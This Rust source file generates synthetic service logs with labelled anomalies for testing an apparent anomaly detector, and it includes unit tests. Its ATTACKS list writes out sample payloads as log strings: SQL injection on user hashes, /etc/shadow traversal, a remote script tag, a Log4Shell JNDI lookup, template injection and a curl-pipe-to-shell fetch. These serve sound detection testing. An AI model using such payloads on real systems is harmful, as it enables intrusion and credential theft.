//! Service logs as lines of text:
//! `TIMESTAMP [LEVEL] SERVICE - MESSAGE | IP: x.x.x.x | User: user_x | ResponseTime: 12ms`.

use std::collections::VecDeque;

use radar_engine::random::SplitMix64;
use radar_types::Timestamp;

/// Each user comes from an address of their own, and uses a few services.
const USERS: u64 = 60;
const BURST_LINES_MIN: u64 = 6;
const BURST_LINES_MORE: u64 = 12;
/// Of the lines an anomaly brings, over all kinds.
const LINES_PER_ANOMALY: f64 = 3.5;

struct Service {
    name: &'static str,
    /// What most answers take.
    usual_millis: u64,
    messages: &'static [&'static str],
    warnings: &'static [&'static str],
    errors: &'static [&'static str],
}

const SERVICES: [Service; 6] = [
    Service {
        name: "auth-service",
        usual_millis: 40,
        messages: &["User login successful", "Token refreshed", "Session validated", "User logged out", "Password hash verified"],
        warnings: &["Login refused: wrong password", "Token close to expiry was used"],
        errors: &["Directory lookup timed out"],
    },
    Service {
        name: "order-service",
        usual_millis: 120,
        messages: &[
            "Order #{id} created",
            "Order #{id} confirmed",
            "Cart of {few} items loaded",
            "Order history with {few} pages served",
        ],
        warnings: &["Stock of item {id} is low", "Order #{id} took a second attempt"],
        errors: &["Order #{id} could not be saved: lock wait exceeded"],
    },
    Service {
        name: "payment-service",
        usual_millis: 260,
        messages: &[
            "Payment {id} authorised",
            "Payment {id} captured",
            "Invoice {id} rendered",
            "Card check passed for order #{id}",
        ],
        warnings: &["Card of order #{id} was declined by its bank"],
        errors: &["Bank gateway answered 502 for payment {id}"],
    },
    Service {
        name: "catalog-service",
        usual_millis: 18,
        messages: &["Product {id} served from cache", "Search for category {few} gave {id} products", "Price list {few} reloaded"],
        warnings: &["Cache of category {few} was cold"],
        errors: &["Index shard {few} did not answer"],
    },
    Service {
        name: "mail-service",
        usual_millis: 350,
        messages: &[
            "Confirmation for order #{id} sent",
            "Newsletter {few} queued for {id} readers",
            "Bounce of message {id} noted",
        ],
        warnings: &["Relay asked to slow down"],
        errors: &["Relay refused message {id}"],
    },
    Service {
        name: "api-gateway",
        usual_millis: 70,
        messages: &["GET /v2/products/{id} 200", "POST /v2/cart 201", "GET /v2/orders/{id} 200", "GET /v2/profile 304"],
        warnings: &["Client exceeded its rate for a moment"],
        errors: &["Upstream order-service closed the connection"],
    },
];

const ATTACKS: [&str; 6] = [
    "GET /v2/products/1%27%20UNION%20SELECT%20login,hash%20FROM%20users-- 200",
    "GET /v2/files?name=../../../../etc/shadow 200",
    "Search for <script src=//203.0.113.9/x.js></script> gave 0 products",
    "Header X-Api-Version: ${jndi:ldap://203.0.113.66/a} was logged",
    "Template rendered with {{config.items()}} in field name",
    "Hook ran `curl 203.0.113.7/i.sh | sh` after upload",
];

const UNHEARD_OF: [&str; 6] = [
    "Configuration replaced from an unsigned bundle",
    "Audit trail was switched off by operator",
    "Kernel reported memory corruption at 0x7ffe0d2a",
    "Backup volume detached while it was written",
    "Private key exported to removable media",
    "Clock went backwards by 4211 seconds",
];

struct Line {
    level: &'static str,
    service: &'static str,
    message: String,
    address: String,
    user: String,
    millis: u64,
}

pub(crate) struct ServiceLines {
    random: SplitMix64,
    anomaly_share: f64,
    pending: VecDeque<(Line, &'static str)>,
}

impl ServiceLines {
    pub(crate) fn new(seed: u64, anomaly_share: f64) -> Self {
        Self { random: SplitMix64::new(seed), anomaly_share, pending: VecDeque::new() }
    }

    /// The next line, and what is wrong with it, if anything is.
    pub(crate) fn line(&mut self, at: Timestamp) -> (String, Option<&'static str>) {
        if self.pending.is_empty() {
            let share = self.anomaly_share;
            if self.random.chance((share / (share + LINES_PER_ANOMALY * (1.0 - share))) as f32) {
                self.begin_anomaly();
            }
        }
        let (line, anomaly) = match self.pending.pop_front() {
            Some((line, anomaly)) => (line, Some(anomaly)),
            None => (self.normal(), None),
        };
        let Line { level, service, message, address, user, millis } = line;
        let text = format!("{at} [{level}] {service} - {message} | IP: {address} | User: {user} | ResponseTime: {millis}ms");
        (text, anomaly)
    }

    fn normal(&mut self) -> Line {
        let user = self.random.below(USERS);
        // A user's services are next to each other, so that some pairs never come up.
        let service = &SERVICES[((user + self.random.below(4)) % SERVICES.len() as u64) as usize];
        let (level, messages) = match self.random.below(100) {
            0..95 => ("INFO", service.messages),
            95..99 => ("WARN", service.warnings),
            _ => ("ERROR", service.errors),
        };
        let message = *self.random.pick(messages);
        Line {
            level,
            service: service.name,
            message: self.fill(message),
            address: format!("10.{}.{}.{}", user % 3, user / 3, 10 + user),
            user: format!("user_{user}"),
            millis: self.usual_millis(service),
        }
    }

    /// Most near the usual, a few several times as long.
    fn usual_millis(&mut self, service: &Service) -> u64 {
        let factors = [0, 1, 2].map(|_| 0.6 + f64::from(self.random.unit()));
        (service.usual_millis as f64 * factors.iter().product::<f64>()) as u64 + 1
    }

    fn fill(&mut self, message: &str) -> String {
        let id = (10_000 + self.random.below(900_000)).to_string();
        let few = (1 + self.random.below(9)).to_string();
        message.replace("{id}", &id).replace("{few}", &few)
    }

    fn begin_anomaly(&mut self) {
        let mut line = self.normal();
        let kind = match self.random.below(7) {
            0 => {
                line.millis = line.millis * (40 + self.random.below(100)) + 20_000;
                "slow_answer"
            }
            1 => {
                line.message = (*self.random.pick(&ATTACKS)).into();
                line.address = self.foreign_address();
                "attack"
            }
            2 => {
                line.message = (*self.random.pick(&UNHEARD_OF)).into();
                line.level = if self.random.chance(0.5) { "CRITICAL" } else { "WARN" };
                "unheard_of"
            }
            3 => {
                line.user = format!("svc_{:04x}", self.random.below(0x1_0000));
                line.address = self.foreign_address();
                "unknown_user"
            }
            4 => {
                let attempts = self.burst();
                let address = self.foreign_address();
                for _ in 0..attempts {
                    let user = format!("user_{}", self.random.below(USERS));
                    let millis = self.usual_millis(&SERVICES[0]);
                    let message = SERVICES[0].warnings[0].into();
                    let guess = Line { level: "WARN", service: SERVICES[0].name, message, address: address.clone(), user, millis };
                    self.pending.push_back((guess, "password_guessing"));
                }
                return;
            }
            5 => {
                let service = self.random.pick(&SERVICES);
                for _ in 0..self.burst() {
                    let mut failed = self.normal();
                    failed.level = "ERROR";
                    failed.service = service.name;
                    failed.message = self.fill(service.errors[0]);
                    failed.millis = self.usual_millis(service) * 8;
                    self.pending.push_back((failed, "outage"));
                }
                return;
            }
            _ => {
                line.message = format!("Export of {} rows finished", 4_000_000 + self.random.below(90_000_000));
                line.millis = 60_000 + self.random.below(400_000);
                "mass_export"
            }
        };
        self.pending.push_back((line, kind));
    }

    fn burst(&mut self) -> u64 {
        BURST_LINES_MIN + self.random.below(BURST_LINES_MORE)
    }

    /// Of the networks that are set aside for examples, so that nobody's address is accused.
    fn foreign_address(&mut self) -> String {
        format!("{}.{}", self.random.pick(&["192.0.2", "198.51.100", "203.0.113"]), 1 + self.random.below(250))
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    fn lines(seed: u64, count: u64, share: f64) -> Vec<(String, Option<&'static str>)> {
        let mut lines = ServiceLines::new(seed, share);
        (0..count).map(|index| lines.line(Timestamp::saturating_from_unix_millis(index as i64 * 1000))).collect()
    }

    #[test]
    fn a_seed_stands_for_its_lines() {
        assert_eq!(lines(1, 300, 0.05), lines(1, 300, 0.05));
        assert_ne!(lines(1, 300, 0.05), lines(2, 300, 0.05));
    }

    #[test]
    fn a_line_has_its_shape() {
        for (line, _) in lines(4, 2000, 0.3) {
            let (head, rest) = line.split_once(" - ").unwrap();
            assert_eq!(head.split(' ').count(), 3, "{line}");
            let tail: Vec<&str> = rest.rsplitn(4, " | ").collect();
            assert!(
                tail[0].starts_with("ResponseTime: ") && tail[1].starts_with("User: ") && tail[2].starts_with("IP: "),
                "{line}"
            );
            assert!(!line.contains(['{', '\n']) || line.contains("${") || line.contains("{{"), "{line}");
        }
    }

    #[test]
    fn anomalies_are_of_all_kinds_and_about_as_many_as_asked_for() {
        for share in [0.0, 0.05, 0.2] {
            let lines = lines(7, 40_000, share);
            let found = lines.iter().filter(|(_, anomaly)| anomaly.is_some()).count() as f64 / 40_000.0;
            assert!((found - share).abs() <= 0.3 * share, "{share}: {found}");
            let kinds: BTreeSet<&str> = lines.iter().filter_map(|(_, anomaly)| *anomaly).collect();
            assert_eq!(kinds.len(), if share > 0.0 { 7 } else { 0 }, "{kinds:?}");
        }
    }
}
